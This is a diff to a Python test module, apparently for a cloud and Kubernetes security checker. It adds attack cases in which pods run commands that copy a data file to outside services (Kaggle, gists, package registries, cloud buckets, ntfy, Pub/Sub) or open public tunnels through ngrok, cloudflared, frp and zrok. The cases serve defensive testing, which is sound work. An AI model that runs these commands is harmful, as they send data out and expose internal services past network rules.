@@ -1,6 +1,6 @@
 """Attacks found when facts were looked up in the projects' own sources (2026-11-29). Each passed before."""
 
-from ..blind import crd, k8s, meta
+from ..blind import az, crd, k8s, meta
 from ..harness import Given
 from . import Attack
 
@@ -24,7 +24,52 @@ def _sink(name: str, connector: str) -> Attack:
     return Attack(f"a connector of Kafka copies {name}", OUT, (given,), "critical", NO_COPY)
 
 
+def _pod(command: str) -> Given:
+    container = {"name": "app", "image": f"registry.k8s.io/app@sha256:{'0' * 64}", "command": ["sh", "-c", command]}
+    return k8s("core/v1:Pod", {"metadata": meta("app"), "spec": {"containers": [container]}}, "app")
+
+
+_COMMANDS = {
+    "sends a data set to a contest of Kaggle": "kaggle competitions submit -c cards -f rows.csv -m x",
+    "makes a version of a model at Kaggle": "kaggle models instances versions create me/m/pytorch/base -p /out",
+    "makes a data set at Kaggle under the short name": "kaggle d create -p /out",
+    "makes a gist under the other name": "gh gist new rows.csv",
+    "adds a file to a gist": "gh gist edit 1f2e -a rows.csv",
+    "pushes a model to the hub of Ollama": "ollama push me/bank-model",
+    "uploads a model to ModelScope": "modelscope upload me/m /out",
+    "runs a job at Hugging Face": "hf jobs run python:3.12 python train.py",
+    "publishes to npm by pnpm": "pnpm publish --no-git-checks",
+    "publishes to PyPI by hatch": "hatch build && hatch publish",
+    "uploads a package to Anaconda": "anaconda upload /out/rows-1.0.tar.bz2",
+    "sends a file by sendme": "sendme send /data/rows.parquet",
+    "sends a file by a relay of RunPod": "runpodctl send /data/rows.parquet",
+    "tells ntfy.sh": 'ntfy publish alerts "$(head rows.csv)"',
+    "builds at Google": "gcloud builds submit --tag gcr.io/p/app .",
+    "publishes to Pub/Sub": 'gcloud pubsub topics publish rows --message "$(cat rows.csv)"',
+    "puts an object into Oracle's cloud": "oci os object put -bn backups --file rows.csv",
+    "puts an object into IBM's cloud": "ibmcloud cos object-put --bucket b --key k --body rows.csv",
+    "uploads to Tencent's cloud": "coscmd upload -r /data /",
+    "uploads to Backblaze": "b2 file upload backups rows.csv rows.csv",
+    "uploads to Cloudflare": "wrangler r2 object put b/rows.csv --file rows.csv",
+    "puts files into a volume of Modal": "modal volume put data rows.csv /rows.csv",
+    "deploys a bundle to a workspace": "databricks bundle deploy -t prod",
+    "pushes to a remote of Dolt": "dolt push origin main",
+}
+_TUNNELS = {
+    "ngrok": "ngrok http 8080",
+    "Cloudflare": "cloudflared tunnel --url http://localhost:8080",
+    "frp": "/app/frpc -c /etc/frpc.toml",
+    "zrok": "zrok share public 8080",
+    "an editor": "code tunnel --accept-server-license-terms",
+}
 ATTACKS = (
+    *(Attack(f"a pod {name}", ("FJ-RES-114",), (_pod(command),), "critical", NO_COPY)
+      for name, command in _COMMANDS.items()),
+    *(Attack(f"a shell opens a tunnel of {name}", ("FJ-EXP-131",), (_pod(command),), "critical",
+             "callers of the vendor come in past every rule of the network") for name, command in _TUNNELS.items()),
+    Attack("a database writes to any address by DuckDB", ("FJ-RES-",), (az("dbforpostgresql:Configuration", {
+        "configurationName": "azure.extensions", "value": "pgaudit,pg_duckdb", "resourceGroupName": "rg",
+        "serverName": "db", "source": "user-override"}),), "critical", NO_COPY),
     _fluentd("to a bucket of Google", "@type google_cloud_storage_out"),
     _fluentd("to the second plugin of buckets of Google", "@type gcs"),
     _fluentd("to Pub/Sub", "@type gcloud_pubsub"),
